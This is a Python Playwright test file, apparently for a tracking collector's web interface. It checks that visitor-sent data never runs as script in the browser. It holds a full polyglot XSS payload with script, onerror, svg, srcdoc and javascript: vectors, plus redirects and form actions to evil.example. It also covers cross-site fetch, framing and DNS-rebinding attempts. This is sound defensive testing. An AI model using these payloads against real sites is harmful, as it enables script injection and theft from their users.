"""What visitors send is text on every page of the collector, in the real Chromium: no script of it runs.

A page of the collector is added to PAGES. Each is loaded while events are stored whose every field
holds markup; a page that finds them by itself (by a stream, by a fetch) is waited for as any other.
"""

from __future__ import annotations

import base64
import json
import time

import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from tracking_middleware.protocol.fields import FIELDS

from ..collector.conftest import page_view
from ..conftest import PATIENCE, POST_PATH, SCHEMA, Collector
from .conftest import served

PAGES = [
    *("/", "/micro/ui", "/micro/good", "/micro/bad", "/micro/all"),
    *("/journeys", "/agents", "/gaps?wait=0", "/bad", "/ui/chart"),
]
"""All that a person may look at."""

WITH_EVENTS = {"/", "/micro/ui"}
"""Those that must show something of whatever was sent."""

ACME = "iglu:com.acme/x/jsonschema/1-0-0"
WRAPPERS = "iglu:com.snowplowanalytics.snowplow"
MARKUP = (
    "\"'`></title></textarea></style></script><!--><img src=x onerror=ran('{0}')>"
    "<script>ran('{0}')</script><svg onload=ran('{0}')><iframe srcdoc='<script>parent.ran(1)</script>'>"
    "<a href=javascript:ran('{0}')>ran</a><base href=https://evil.example/>"
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
    "<style>@import 'https://evil.example/'</style>"
    "<form action=https://evil.example/><input autofocus onfocus=ran('{0}')>"
    "${{ran('{0}')}}{{{{ran('{0}')}}}}\\u003cb\\u003e"
)
WATCH = """
  window.ranScripts = [];
  window.refused = [];
  window.ran = (what) => window.ranScripts.push(what);
  addEventListener("securitypolicyviolation", (event) => window.refused.push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
LOOK = """() => ({
  ran: window.ranScripts,
  refused: window.refused,
  strange: [...document.querySelectorAll(
    "script:not([src]), iframe, base, meta[http-equiv], [onerror], [onload], [onfocus], [srcdoc]"
  )].map((element) => element.outerHTML.slice(0, 200)),
  links: [...document.querySelectorAll("[href], [src], [action]")]
    .map((element) => ["href", "src", "action"].map((name) => element.getAttribute(name)))
    .map((given) => given.find((link) => link !== null))
    .map((link) => new URL(link, document.baseURI).href)
    .filter((link) => !link.startsWith(location.origin) && !link.startsWith("data:image/")),
  text: document.documentElement.textContent,
})"""


@pytest.fixture(scope="module")
def filled():
    """A collector of its own, so that no other test's events are on its pages."""
    collector = Collector()
    yield collector
    assert collector.stop() == 0


def markup(name):
    return MARKUP.format(name)


def in_every_parameter():
    """Events that have the markup in one parameter of the protocol, then those that have it in many."""
    for key in FIELDS:
        yield page_view(**{key: markup(key)})
    for kind in ("pv", "pp", "se", "ue", "tr", "ti"):
        texts = (
            "aid",
            "tna",
            "page",
            "uid",
            "duid",
            "se_ca",
            "se_ac",
            "se_la",
            "se_pr",
            "tr_id",
            "ti_sk",
            "ua",
        )
        yield page_view(e=kind, se_va="1", tr_tt="1", **{key: markup(f"{kind}-{key}") for key in texts})


def in_links():
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "data:text/html,",
        "vbscript:",
        "https://a.example/",
    ):
        link = f"{scheme}ran('link')//{markup('link')}"
        yield page_view(url=link, refr=link)
        yield page_view(url=f"{scheme}ran(1)", refr=f"{scheme}ran(1)", page=f"{scheme}ran(1)")


def in_self_describing_json():
    for uri in (f"iglu:com.acme/{markup('uri')}/jsonschema/1-0-0", markup("uri"), ACME):
        inner = {"schema": uri, "data": {markup("key"): markup("value"), "list": [markup("item")]}}
        contexts = json.dumps({"schema": f"{WRAPPERS}/contexts/jsonschema/1-0-1", "data": [inner]})
        event = json.dumps({"schema": f"{WRAPPERS}/unstruct_event/jsonschema/1-0-0", "data": inner})
        yield page_view(co=contexts)
        yield page_view(cx=base64.urlsafe_b64encode(contexts.encode()).decode())
        yield page_view(e="ue", ue_pr=event)
        yield page_view(e="ue", ue_px=base64.urlsafe_b64encode(event.encode()).decode())


def post_events(collector, events):
    """Each in a POST of its own where the payload schema takes it, else by GET, which takes anything."""
    for event in events:
        is_allowed = all(FIELDS[key].in_envelope for key in event)
        answer = collector.post(event) if is_allowed else collector.get("/i", params=event)
        assert answer.status_code == 200


def send_around(collector):
    """The markup in everything of a request but its events."""
    hostile = markup("header").encode()
    headers = {
        "User-Agent": hostile,
        "Referer": hostile,
        "X-Forwarded-For": hostile,
        hostile[:0] or "X-Any": hostile,
    }
    collector.post(page_view(), headers={**headers, "Cookie": hostile})
    collector.post(page_view(eid="x"), headers=headers)
    collector.post(page_view(), schema=markup("schema"))
    collector.post(page_view(), **{markup("envelope"): 1})
    collector.post({markup("parameter"): markup("value")})
    client = collector.client
    client.post(POST_PATH, content=markup("body"), headers={"Content-Type": "application/json"})
    client.post(POST_PATH, content=markup("body"), headers={"Content-Type": hostile})
    path = "/<img src=x onerror=ran(1)>/<script>ran(1)<script>"
    client.post(path, json={"schema": SCHEMA, "data": [page_view()]})
    client.get("/i", params={markup("name"): markup("value")})


def wait_until(page, condition):
    """Playwright's own waiting evaluates text in the page, which the policy forbids."""
    deadline = time.monotonic() + PATIENCE
    while not page.evaluate(condition):
        assert time.monotonic() < deadline, f"{page.url}: {condition}"
        page.wait_for_timeout(20)


def look_at_all(context, collector):
    """Load every page; that nothing ran, nothing was even refused, and nothing was asked of another site."""
    for path in PAGES:
        page = context.new_page()
        troubles = []
        page.on("dialog", lambda dialog, seen=troubles: (seen.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error, seen=troubles: seen.append(str(error)))
        page.on(
            "console",
            lambda message, seen=troubles: (
                seen.append(message.text) if "favicon" not in str(message.location) else None
            ),
        )
        page.on(
            "request",
            lambda request, seen=troubles: (
                None if request.url.startswith((collector.url, "data:")) else seen.append(request.url)
            ),
        )
        page.goto(collector.url + path, wait_until="load")
        if path in WITH_EVENTS:
            wait_until(page, "document.documentElement.textContent.includes('ran(')")
        seen = page.evaluate(LOOK)
        assert seen["ran"] == seen["refused"] == seen["strange"] == seen["links"] == troubles == []
        assert page.url == collector.url + path
        page.close()


@pytest.mark.parametrize("events", [in_every_parameter, in_links, in_self_describing_json])
def test_no_field_of_an_event_runs(context, filled, events):
    context.add_init_script(WATCH)
    everything = list(events())
    for start in range(0, len(everything), 40):
        filled.reset()
        post_events(filled, everything[start : start + 40])
        assert filled.counts()["total"] >= len(everything[start : start + 40])
        look_at_all(context, filled)


def test_nothing_else_of_a_request_runs(context, filled):
    context.add_init_script(WATCH)
    filled.reset()
    send_around(filled)
    assert filled.counts()["bad"] >= 7
    look_at_all(context, filled)


@pytest.mark.parametrize("path", ["/micro/<img src=x onerror=ran(1)>", "/<script>ran(1)</script>"])
def test_no_address_runs(context, filled, path):
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(filled.url + path)
    seen = page.evaluate(LOOK)
    assert seen["ran"] == seen["refused"] == seen["strange"] == []
    page.close()


def test_the_policy_would_refuse_what_gets_into_a_page(context, filled):
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(filled.url + "/")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=ran(1)>')")
    wait_until(page, "window.refused.length > 0")
    assert page.evaluate("window.ranScripts") == []
    page.close()


@pytest.fixture
def site():
    """The port of another site's server."""
    with served(Starlette(routes=[Route("/", lambda _: HTMLResponse("<p>A page"))]), None) as port:
        yield port


def test_another_site_reads_nothing_and_resets_nothing(context, filled, site):
    filled.reset()
    filled.post(page_view())
    page = context.new_page()
    page.goto(f"http://evil.example.test:{site}/")
    read = page.evaluate(
        """async (url) => {
          const read = await fetch(url + "/micro/good").then(() => "read", () => "refused");
          await fetch(url + "/micro/reset", {mode: "no-cors", method: "POST"}).catch(() => 0);
          for (const [kind, address] of [["img", "src"], ["iframe", "src"], ["script", "src"]]) {
            await new Promise((done) => {
              const element = document.createElement(kind);
              element.onload = element.onerror = done;
              element[address] = url + "/micro/reset";
              document.body.append(element);
            });
          }
          return read;
        }""",
        filled.url,
    )
    assert read == "refused"
    assert filled.counts()["good"] == 1
    page.close()


def test_another_site_does_not_frame_it(context, filled, site):
    page = context.new_page()
    page.goto(f"http://evil.example.test:{site}/")
    refused = []
    page.on("console", lambda message: refused.append(message.text))
    page.evaluate("(url) => { document.body.innerHTML = `<iframe src=${url}/></iframe>`; }", filled.url)
    deadline = time.monotonic() + PATIENCE
    while not any("frame-ancestors" in text for text in refused):
        assert time.monotonic() < deadline, refused
        page.wait_for_timeout(20)
    page.close()


def test_a_page_on_this_machine_reads_and_resets_it(context, filled, site):
    filled.post(page_view())
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{site}/")
    post = {"method": "POST", "body": '{"limit": 1}', "headers": {"Content-Type": "application/json"}}
    ask = "({url, post}) => fetch(url, post).then((got) => got.text())"
    assert len(json.loads(page.evaluate(ask, {"url": f"{filled.url}/micro/good", "post": post}))) == 1
    assert page.evaluate(ask, {"url": f"{filled.url}/micro/reset", "post": post}) == "Reset completed"
    page.close()


def test_a_site_that_rebinds_its_name_to_this_machine_reads_nothing(context, filled):
    page = context.new_page()
    answer = page.goto(filled.url.replace("127.0.0.1", "evil.example.com") + "/micro/good")
    assert answer.status == 403
    page.close()


def test_the_printed_address_opens_the_page_and_what_it_loads(context):
    collector = Collector("--token", "browsers-token")
    page = context.new_page()
    refused = []
    page.on("response", lambda answer: refused.append(answer.url) if answer.status == 401 else None)
    page.goto(collector.address, wait_until="load")
    assert page.url == collector.url + "/"
    assert page.evaluate("fetch('/micro/all').then((got) => got.status)") == 200
    assert page.evaluate("document.cookie") == ""
    assert refused == []
    assert context.browser.new_context().request.get(collector.url + "/").status == 401
    page.close()
    assert collector.stop() == 0
